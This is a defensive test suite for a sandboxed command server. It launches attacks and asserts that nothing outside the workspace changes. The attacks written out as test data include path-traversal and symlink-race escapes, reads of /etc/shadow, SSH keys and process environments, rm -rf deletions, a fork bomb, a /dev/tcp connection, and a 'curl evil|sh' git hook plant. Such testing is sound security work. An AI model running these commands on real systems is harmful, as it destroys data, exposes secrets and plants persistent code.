/**
 * The adversarial suite (issue 3): every attack goes through the real JSON-lines protocol of a spawned
 * `safe-exec serve` process (Deno, `--confirm exec:true` so that every ASK is approved and the attack really
 * runs), and every case asserts that the outside world is unchanged: canary files and folders in the workspace's
 * parent, in /tmp and in the home folder, the witness log's earlier lines, /etc.
 *
 * Cases that need the OS sandbox are skipped (with a printed reason) when bubblewrap cannot run here.
 */
import assert from "node:assert/strict";
import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import {
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { sandboxSkip, tempBase } from "./_world.ts";
import { targets } from "../_targets.ts";
import { type Msg, startServe } from "../e2e/_serve.ts";

const SECRET = `s3cr3t-${crypto.randomUUID()}`;
const noSandbox = sandboxSkip("the sandbox cases of the adversarial suite") !== null;

// ---------------------------------------------------------------------------------------------------------------
// The world outside the workspace

const base = tempBase("se-adv-");
const ws = join(base, "ws");
const witness = join(base, "witness.log");
const parentCanary = join(base, "canary"); // the workspace's parent
const tmpCanary = tempBase("se-adv-tmp-canary-");
const homeCanary = join(process.env.HOME ?? "/root", `.se-adv-canary-${crypto.randomUUID().slice(0, 8)}`);
const outsideFile = join(parentCanary, "file.txt");
mkdirSync(ws);
for (const d of [parentCanary, tmpCanary, homeCanary]) {
  mkdirSync(join(d, "sub"), { recursive: true });
  writeFileSync(join(d, "file.txt"), `canary ${d}\n`);
  writeFileSync(join(d, "sub", "deep.txt"), "deep\n");
}
writeFileSync(join(homeCanary, "id_rsa"), `-----BEGIN PRIVATE KEY----- ${SECRET}\n`);

function snapshot(dir: string): string {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      const st = statSync(p, { throwIfNoEntry: false });
      if (!st) continue;
      if (st.isDirectory()) {
        out.push(`${p}/`);
        walk(p);
      } else out.push(`${p} ${st.size} ${readFileSync(p, "utf8")}`);
    }
  };
  walk(dir);
  return out.join("\n");
}

let witnessPrefix = "";
function world(): string {
  return [parentCanary, tmpCanary, homeCanary].map(snapshot).join("\n--\n");
}
const worldBefore = world();

function assertWorldUnchanged(): void {
  assert.equal(world(), worldBefore, "canaries outside the workspace changed");
  assert.deepEqual(
    readdirSync(base).filter((n) => n !== "witness.log").sort(),
    ["canary", "ws"],
    "new entries beside the workspace",
  );
  const log = readFileSync(witness, "utf8");
  assert.ok(log.startsWith(witnessPrefix), "the witness log was rewritten");
  witnessPrefix = log;
  for (const f of ["/etc/se-adv", "/se-adv", "/usr/se-adv"]) assert.ok(!existsSync(f), `${f} appeared`);
}

// ---------------------------------------------------------------------------------------------------------------
// The server

// `deno run` from source, with a secret in its environment that no tool may see.
const server = startServe(targets().find((t) => t.name === "deno src")!, base, [
  "--workspace",
  ws,
  "--witness",
  witness,
  "--confirm",
  "exec:true",
], { env: { SAFE_EXEC_TEST_SECRET: SECRET } });
const send = server.send;
// `call` resets the metrics first: keep fatigue low, every attack must meet the sandbox, not a tired gate.
const call = (tool: string, args: Msg): Promise<Msg> => server.call(tool, args);

async function bash(cmd: string, timeoutMs?: number): Promise<{ r: Msg; out: string }> {
  const r = await call("run_bash", timeoutMs ? { cmd, timeoutMs } : { cmd });
  const o = r.output as { stdout?: string; stderr?: string } | null;
  return { r, out: `${o?.stdout ?? ""}${o?.stderr ?? ""}` };
}

async function python(code: string): Promise<{ r: Msg; out: string }> {
  const r = await call("run_python", { code });
  const o = r.output as { stdout?: string; stderr?: string } | null;
  return { r, out: `${o?.stdout ?? ""}${o?.stderr ?? ""}` };
}

async function assertResponsive(maxMs = 2000): Promise<void> {
  const t = performance.now();
  const info = await send({ type: "info" }, 10_000);
  assert.equal(info.type, "info");
  assert.ok(performance.now() - t < maxMs, `info took ${performance.now() - t} ms`);
}

function refused(r: Msg, code = "path_outside_workspace"): void {
  assert.equal(r.ok, false, `expected a refusal, got ${JSON.stringify(r).slice(0, 300)}`);
  assert.equal(r.errorCode, code, JSON.stringify(r).slice(0, 300));
}

const info = await send({ type: "info" });

// A process OUTSIDE safe-exec that can write the workspace and swaps a folder for a symlink in a tight loop can
// redirect a write or delete between fs_ops' check and its use unless the kernel stops it: Deno has no openat(2) and
// refuses /proc/self/fd, so under Deno the file tools run in the confined file server (a bwrap mount namespace with
// only the workspace in it), where the swapped-in symlink leads nowhere. These cases are strict whenever the server
// under test reports that layer; without it (no bwrap) they are skipped with the reason.
const confinedFiles = ((info.isolation as Msg | undefined)?.files as Msg | undefined)?.confined === true;
const RACE_SKIP = confinedFiles || process.env.SAFE_EXEC_STRICT_RACE === "1"
  ? null
  : "the server's file tools are not confined (no bubblewrap): Deno's fs_ops cannot pin folders against an " +
    "outside racer (tests/attack/fs_race_test.ts runs the same race strictly on Bun)";
if (RACE_SKIP) console.error(`\n*** SKIPPING the 4 racing-symlink cases of the adversarial suite: ${RACE_SKIP}. ***\n`);
const serverPid = server.pid;
witnessPrefix = existsSync(witness) ? readFileSync(witness, "utf8") : "";

let cases = 0;
function attack(name: string, fn: () => Promise<void>, opts: { sandbox?: boolean; race?: boolean } = {}): void {
  cases++;
  Deno.test({
    name: `attack: ${name}`,
    ignore: (opts.sandbox === true && noSandbox) || (opts.race === true && RACE_SKIP !== null),
    sanitizeOps: false,
    sanitizeResources: false,
    async fn() {
      await fn();
      assertWorldUnchanged();
    },
  });
}

// ---------------------------------------------------------------------------------------------------------------
// File tools: writes, reads and deletes outside the workspace

attack("write_file via ..", async () => refused(await call("write_file", { path: "../x.txt", content: "x" })));
attack("write_file to an absolute path outside", async () => {
  refused(await call("write_file", { path: join(parentCanary, "new.txt"), content: "x" }));
});
attack("write_file to a prefix sibling of the workspace", async () => {
  refused(await call("write_file", { path: `${ws}-evil/x.txt`, content: "x" }));
});
attack("write_file into /etc", async () => refused(await call("write_file", { path: "/etc/se-adv", content: "x" })));
attack("append_file to an outside file via ..", async () => {
  refused(await call("append_file", { path: "../canary/file.txt", content: "pwned" }));
});
attack("copy_file from outside into the workspace", async () => {
  refused(await call("copy_file", { src: join(homeCanary, "id_rsa"), dst: "stolen.txt" }));
  assert.ok(!existsSync(join(ws, "stolen.txt")));
});
attack("copy_file from the workspace to outside", async () => {
  await call("write_file", { path: "payload.txt", content: "payload" });
  refused(await call("copy_file", { src: "payload.txt", dst: join(tmpCanary, "payload.txt") }));
});
attack("delete_file of an outside file by absolute path", async () => {
  refused(await call("delete_file", { path: outsideFile }));
});
attack("delete_dir of an outside folder via ..", async () => refused(await call("delete_dir", { path: "../canary" })));
attack("delete_dir of the workspace root", async () => {
  const r = await call("delete_dir", { path: "." });
  assert.equal(r.ok, false);
  assert.ok(existsSync(ws));
});
attack("read_file of /etc/shadow", async () => refused(await call("read_file", { path: "/etc/shadow" })));
attack("read_file of the witness log", async () => refused(await call("read_file", { path: "../witness.log" })));
attack("list_dir of / and of ..", async () => {
  refused(await call("list_dir", { path: "/" }));
  refused(await call("list_dir", { path: ".." }));
});
attack(
  "a NUL byte in a path",
  async () => refused(await call("write_file", { path: "a\u0000/../../x", content: "x" })),
);

// ---------------------------------------------------------------------------------------------------------------
// Symlink and hard-link escapes (links planted by "someone else": the test)

symlinkSync(parentCanary, join(ws, "link-dir"));
symlinkSync(outsideFile, join(ws, "link-file"));
symlinkSync(join(parentCanary, "missing.txt"), join(ws, "link-dangling"));
mkdirSync(join(ws, "nested", "deeper"), { recursive: true });
symlinkSync(homeCanary, join(ws, "nested", "deeper", "home"));

attack("write_file through a symlinked folder", async () => {
  refused(await call("write_file", { path: "link-dir/new.txt", content: "x" }));
});
attack("write_file through a symlink at depth", async () => {
  refused(await call("write_file", { path: "nested/deeper/home/new.txt", content: "x" }));
});
attack("read_file through a symlinked file", async () => refused(await call("read_file", { path: "link-file" })));
attack("read_file of a secret through a deep symlink", async () => {
  refused(await call("read_file", { path: "nested/deeper/home/id_rsa" }));
});
attack("append_file through a symlinked file", async () => {
  refused(await call("append_file", { path: "link-file", content: "x" }));
});
attack("write_file through a dangling symlink", async () => {
  refused(await call("write_file", { path: "link-dangling", content: "x" }));
  assert.ok(!existsSync(join(parentCanary, "missing.txt")));
});
attack("copy_file onto a symlink pointing outside", async () => {
  await call("write_file", { path: "p2.txt", content: "x" });
  refused(await call("copy_file", { src: "p2.txt", dst: "link-file" }));
});
attack("delete_file of a symlink pointing outside removes the link and leaves the target", async () => {
  symlinkSync(outsideFile, join(ws, "link-file-2"));
  const r = await call("delete_file", { path: "link-file-2" });
  assert.equal(r.ok, true, JSON.stringify(r));
  assert.ok(!existsSync(join(ws, "link-file-2")) && existsSync(outsideFile));
  refused(await call("delete_file", { path: "link-dir/file.txt" }));
});
attack("delete_dir through a symlinked folder", async () => {
  refused(await call("delete_dir", { path: "link-dir/sub" }));
  refused(await call("delete_dir", { path: "link-dir" }), "invalid_args"); // a symlink: use delete_file
});
attack("list_dir through a symlinked folder", async () => refused(await call("list_dir", { path: "link-dir" })));
attack("a hard link to an outside file is refused by every file tool", async () => {
  linkSync(outsideFile, join(ws, "hard.txt"));
  try {
    refused(await call("read_file", { path: "hard.txt" }));
    refused(await call("append_file", { path: "hard.txt", content: "x" }));
    refused(await call("write_file", { path: "hard.txt", content: "x" }));
  } finally {
    rmSync(join(ws, "hard.txt"));
  }
});
attack("run_bash cannot hard-link an outside file into the workspace", async () => {
  const { out } = await bash(`ln ${outsideFile} hard2.txt 2>&1; ln /etc/passwd hard3.txt 2>&1; true`);
  assert.ok(!existsSync(join(ws, "hard2.txt")) && !existsSync(join(ws, "hard3.txt")), out);
}, { sandbox: true });
attack("run_bash cannot plant a symlink that the file tools then follow", async () => {
  await bash(`ln -sfn ${parentCanary} planted`);
  refused(await call("write_file", { path: "planted/x.txt", content: "x" }));
}, { sandbox: true });

// ---------------------------------------------------------------------------------------------------------------
// A symlink swapped in between check and use: a racer process exchanges a real folder and a symlink to the outside
// with renameat2(RENAME_EXCHANGE) in a tight loop while the file tools work on paths through it.

const RACER = `
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
a, b, secs = sys.argv[1].encode(), sys.argv[2].encode(), float(sys.argv[3])
end = time.time() + secs
n = 0
while time.time() < end:
    libc.renameat2(-100, a, -100, b, 2)
    n += 1
print(n)
`;

async function race(name: string, rounds: number, body: (i: number) => Promise<Msg>): Promise<void> {
  const dir = join(ws, `race-${name}`);
  mkdirSync(join(dir, "real"), { recursive: true });
  writeFileSync(join(dir, "real", "victim.txt"), "inside\n");
  symlinkSync(parentCanary, join(dir, "swap"));
  const racer = spawn("python3", ["-c", RACER, join(dir, "real"), join(dir, "swap"), "600"], { stdio: "ignore" });
  let leaked = 0;
  try {
    await new Promise((r) => setTimeout(r, 100));
    for (let i = 0; i < rounds; i++) {
      const r = await body(i);
      if (r.ok === true && typeof r.output === "string" && r.output.includes("canary")) leaked++;
    }
  } finally {
    racer.kill("SIGKILL");
    await new Promise((r) => racer.once("exit", r));
  }
  assert.equal(leaked, 0, "a read went outside during the race");
  rmSync(dir, { recursive: true, force: true });
}

attack("racing symlink swap: write_file (300 rounds)", async () => {
  await race("w", 300, (i) => call("write_file", { path: `race-w/real/f${i}.txt`, content: "x" }));
}, { race: true });
attack("racing symlink swap: read_file (300 rounds)", async () => {
  await race("r", 300, () => call("read_file", { path: "race-r/real/file.txt" }));
  await race("r2", 300, () => call("read_file", { path: "race-r2/real/victim.txt" }));
}, { race: true });
attack("racing symlink swap: append_file and delete_file (200 rounds each)", async () => {
  await race("a", 200, () => call("append_file", { path: "race-a/real/file.txt", content: "pwned" }));
  await race("d", 200, () => call("delete_file", { path: "race-d/real/file.txt" }));
}, { race: true });
attack("racing symlink swap: delete_dir (200 rounds)", async () => {
  await race("dd", 200, () => call("delete_dir", { path: "race-dd/real/sub" }));
}, { race: true });

// ---------------------------------------------------------------------------------------------------------------
// run_bash / run_python: the OS sandbox

attack("run_bash writes outside the workspace (parent, /tmp, home, /etc)", async () => {
  const { out } = await bash(
    `echo pwned > ${outsideFile}; echo pwned > ${join(tmpCanary, "file.txt")}; ` +
      `echo pwned > ${
        join(homeCanary, "file.txt")
      }; echo x > /etc/se-adv; echo x > /se-adv; echo x > /usr/se-adv; true`,
  );
  assert.ok(out.length > 0);
}, { sandbox: true });
attack("run_bash rm -rf of the workspace's parent canary", async () => {
  await bash(`rm -rf ${parentCanary}; rm -rf ${parentCanary}/sub; true`);
}, { sandbox: true });
attack("run_bash rm -rf of a /tmp canary", async () => {
  await bash(`rm -rf ${tmpCanary}; true`);
}, { sandbox: true });
attack("run_bash rm -rf of a home-folder canary", async () => {
  await bash(`rm -rf ${homeCanary} ~/${homeCanary.split("/").pop()}; true`);
}, { sandbox: true });
attack("run_bash rm -rf of the witness log and its folder", async () => {
  await bash(`rm -f ${witness}; echo '{"forged":1}' >> ${witness}; rm -rf ${base}/canary; true`);
  assert.ok(existsSync(witness));
}, { sandbox: true });
attack("run_python deletes and writes outside", async () => {
  await python(
    `import shutil, os\nfor p in [${JSON.stringify(parentCanary)}, ${JSON.stringify(tmpCanary)}, ${
      JSON.stringify(homeCanary)
    }]:\n    shutil.rmtree(p, ignore_errors=True)\ntry:\n    open('/etc/se-adv', 'w').write('x')\nexcept Exception as e:\n    print(e)\n`,
  );
}, { sandbox: true });
attack("run_bash reads /etc/shadow", async () => {
  const { out } = await bash("cat /etc/shadow /etc/gshadow 2>&1; true");
  assert.ok(!/^root:/m.test(out), out);
}, { sandbox: true });
attack("run_bash reads ~/.ssh and a key in the home folder", async () => {
  const { out } = await bash(`ls -A /root/.ssh 2>&1; cat ${join(homeCanary, "id_rsa")} 2>&1; ls -A /root /home; true`);
  assert.ok(!out.includes(SECRET), out);
  const listing = await bash("ls -A /root /home");
  assert.ok(!listing.out.includes(".se-adv-canary"), listing.out);
}, { sandbox: true });
attack("run_bash reads /proc/1/environ", async () => {
  const { out } = await bash("cat /proc/1/environ 2>&1 | tr '\\0' '\\n'; true");
  assert.ok(!out.includes(SECRET), out);
}, { sandbox: true });
attack("run_bash reads the server's own /proc/<pid>/environ", async () => {
  const { out } = await bash(`cat /proc/${serverPid}/environ 2>&1; cat /proc/${serverPid}/cmdline 2>&1; true`);
  assert.ok(!out.includes(SECRET), out);
  assert.ok(!out.includes("main.ts"), "the server's process is not visible");
}, { sandbox: true });
attack("a secret in the server's environment is absent in run_bash", async () => {
  const { out } = await bash("env; echo SECRET=$SAFE_EXEC_TEST_SECRET");
  assert.ok(!out.includes(SECRET), out);
  assert.match(out, /^HOME=/m);
}, { sandbox: true });
attack("a secret in the server's environment is absent in run_python", async () => {
  const { out } = await python(
    "import os\nprint(sorted(os.environ.items()))\nprint(os.environ.get('SAFE_EXEC_TEST_SECRET'))",
  );
  assert.ok(!out.includes(SECRET), out);
}, { sandbox: true });
attack("run_python reads the host's environ files", async () => {
  const { out } = await python(
    `import glob\nfor p in glob.glob('/proc/*/environ'):\n    try:\n        print(open(p, 'rb').read())\n    except Exception as e:\n        print(e)\nprint(open('/proc/${serverPid}/environ', 'rb').read() if __import__('os').path.exists('/proc/${serverPid}/environ') else 'gone')`,
  );
  assert.ok(!out.includes(SECRET), out);
}, { sandbox: true });

let listener: ChildProcess | null = null;
let listenerPort = 0;
async function startListener(): Promise<number> {
  if (listener) return listenerPort;
  listener = spawn("python3", [
    "-u",
    "-c",
    [
      "import socket",
      "s = socket.socket()",
      "s.bind(('127.0.0.1', 0))",
      "s.listen(16)",
      "print(s.getsockname()[1], flush=True)",
      "while True:",
      "    c, _ = s.accept()",
      "    c.sendall(b'HELLO-FROM-HOST\\n')",
      "    c.close()",
    ].join("\n"),
  ], { stdio: ["ignore", "pipe", "ignore"] });
  listenerPort = await new Promise<number>((resolve) => {
    listener!.stdout!.once("data", (d: Buffer) => resolve(Number(String(d).trim())));
  });
  // The listener works from the host.
  const probe = spawnSync("python3", [
    "-c",
    `import socket; print(socket.create_connection(('127.0.0.1', ${listenerPort})).recv(64))`,
  ], {
    encoding: "utf8",
  });
  assert.match(probe.stdout, /HELLO-FROM-HOST/);
  return listenerPort;
}
attack("run_bash cannot connect to a listener on the host's 127.0.0.1", async () => {
  const port = await startListener();
  const { r, out } = await bash(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`);
  assert.equal(r.ok, false);
  assert.ok(!out.includes("HELLO-FROM-HOST"), out);
}, { sandbox: true });
attack("run_python cannot connect to a listener on the host's 127.0.0.1", async () => {
  const port = await startListener();
  const { r, out } = await python(
    `import socket\nprint(socket.create_connection(('127.0.0.1', ${port}), timeout=2).recv(64))`,
  );
  assert.equal(r.ok, false);
  assert.ok(!out.includes("HELLO-FROM-HOST"), out);
}, { sandbox: true });
attack("run_bash has no route out (no interface but loopback)", async () => {
  const { out } = await bash("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '");
  assert.equal(out.trim(), "lo");
}, { sandbox: true });

attack("a fork bomb is stopped and the server stays responsive", async () => {
  const { r } = await bash(":(){ :|:& };:; sleep 2; echo done", 20_000);
  assert.ok(r.type === "result");
  await assertResponsive();
  const after = await bash("echo alive");
  assert.equal(after.r.ok, true);
}, { sandbox: true });
attack("a 10 GiB write is stopped by the file-size limit", async () => {
  const big = await bash("head -c 10G /dev/zero > big.bin; echo status=$?; stat -c %s big.bin", 120_000);
  assert.match(big.out, /File size limit exceeded|status=1/);
  const stdout = String((big.r.output as { stdout?: string } | null)?.stdout ?? "");
  const size = Number(stdout.trim().split("\n").at(-1));
  assert.ok(size <= 1024 ** 3, `wrote ${size} bytes`);
  await assertResponsive();
  rmSync(join(ws, "big.bin"), { force: true });
}, { sandbox: true });
attack("a memory hog is stopped by the address-space limit", async () => {
  const { out } = await python(
    "try:\n    x = bytearray(16 * 1024**3)\n    print('ALLOCATED')\nexcept MemoryError:\n    print('MemoryError')",
  );
  assert.match(out, /MemoryError/);
  await assertResponsive();
}, { sandbox: true });
attack("a process that ignores SIGTERM and leaves a sleep behind is killed with its children", async () => {
  const marker = `se-adv-marker-${crypto.randomUUID().slice(0, 8)}`;
  const { r } = await bash(
    `trap '' TERM; (exec -a ${marker} sleep 1000) & bash -c 'trap "" TERM; exec -a ${marker}-2 sleep 1000' & sleep 1000`,
    800,
  );
  assert.equal(r.errorCode, "timeout");
  await new Promise((res) => setTimeout(res, 300));
  const left = spawnSync("pgrep", ["-f", marker], { encoding: "utf8" });
  assert.equal(left.stdout, "", `left behind: ${left.stdout}`);
  await assertResponsive();
}, { sandbox: true });
attack("background processes do not outlive a successful call", async () => {
  const marker = `se-adv-bg-${crypto.randomUUID().slice(0, 8)}`;
  const { r } = await bash(
    `(exec -a ${marker} sleep 1000) & disown; setsid bash -c 'exec -a ${marker} sleep 1000' & echo ok`,
  );
  assert.equal(r.ok, true);
  await new Promise((res) => setTimeout(res, 300));
  assert.equal(spawnSync("pgrep", ["-f", marker], { encoding: "utf8" }).stdout, "");
}, { sandbox: true });
attack("run_bash cannot signal the server (own PID namespace)", async () => {
  await bash(`kill -9 ${serverPid} 2>&1; kill -9 -1 2>&1; true`);
  await assertResponsive();
}, { sandbox: true });
attack("run_bash cannot remount, mount or make user namespaces", async () => {
  const { out } = await bash(
    "mount -o remount,rw / 2>&1; mount -t tmpfs x /mnt 2>&1; unshare -U true 2>&1 && echo USERNS; unshare -m true 2>&1 && echo MOUNTNS; true",
  );
  assert.ok(!/USERNS|MOUNTNS/.test(out), out);
}, { sandbox: true });
attack("run_bash cannot leave its pids cgroup", async () => {
  const { out } = await bash(
    "echo $$ > /sys/fs/cgroup/pids/cgroup.procs 2>&1; echo $$ > /sys/fs/cgroup/cgroup.procs 2>&1; true",
  );
  assert.ok(/Read-only|Permission|No such/.test(out), out);
}, { sandbox: true });

// ---------------------------------------------------------------------------------------------------------------
// .git: code that runs later on the host

mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
writeFileSync(join(ws, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n");
const gitBefore = () => snapshot(join(ws, ".git"));
const gitSnap = gitBefore();

attack("run_bash writing .git/hooks/x fails", async () => {
  const { out } = await bash(
    "echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; touch .git/hooks/x; true",
  );
  assert.match(out, /Read-only/);
  assert.equal(gitBefore(), gitSnap);
}, { sandbox: true });
attack("run_bash rewriting .git/config fails (core.hooksPath, fsmonitor)", async () => {
  await bash("git config core.hooksPath /tmp 2>&1; echo '[core] fsmonitor = evil' >> .git/config; true");
  assert.equal(gitBefore(), gitSnap);
}, { sandbox: true });
attack("run_bash replacing .git wholesale fails", async () => {
  await bash("mv .git .git-old 2>&1; rm -rf .git 2>&1; mkdir -p .git/hooks && echo x > .git/hooks/post-checkout; true");
  assert.equal(gitBefore(), gitSnap);
  assert.ok(!existsSync(join(ws, ".git-old")));
}, { sandbox: true });
attack("write_file / delete_dir on .git/hooks and .git/config are refused", async () => {
  refused(await call("write_file", { path: ".git/hooks/x", content: "x" }));
  refused(await call("append_file", { path: ".git/config", content: "[core]\nhooksPath=/tmp\n" }));
  refused(await call("delete_dir", { path: ".git" }));
  assert.equal(gitBefore(), gitSnap);
});

// ---------------------------------------------------------------------------------------------------------------
// Visibility

attack("info and the witness log show the layers", async () => {
  const iso = (info.isolation ?? {}) as { layers?: { layer: string; active: boolean }[] };
  const names = (iso.layers ?? []).map((l) => l.layer);
  for (const n of ["realpath guard", "worker permissions", "OS sandbox", "network off", "env scrubbed"]) {
    assert.ok(names.includes(n), n);
  }
  await call("read_file", { path: "race-none" });
  const lines = readFileSync(witness, "utf8").trim().split("\n").map((l) => JSON.parse(l));
  const exec = lines.filter((l) => l.event === "execute");
  const fileLayer = confinedFiles ? "confined-process" : "worker-permissions";
  assert.ok(exec.some((l) => (l.details.isolation.layers as string[]).includes(fileLayer)), fileLayer);
  if (confinedFiles) assert.ok(names.includes("file tools confined"));
  if (!noSandbox) assert.ok(exec.some((l) => (l.details.isolation.layers as string[]).includes("bwrap")));
});

Deno.test({
  name: `adversarial suite has at least 40 cases (${cases})`,
  sanitizeOps: false,
  sanitizeResources: false,
  fn() {
    assert.ok(cases >= 40, `${cases} cases`);
  },
});

Deno.test({
  name: "the server shuts down cleanly on EOF; nothing outside changed",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    listener?.kill("SIGKILL");
    assert.equal(await server.close(), 0);
    assertWorldUnchanged();
    rmSync(homeCanary, { recursive: true, force: true });
    rmSync(tmpCanary, { recursive: true, force: true });
    rmSync(base, { recursive: true, force: true });
  },
});
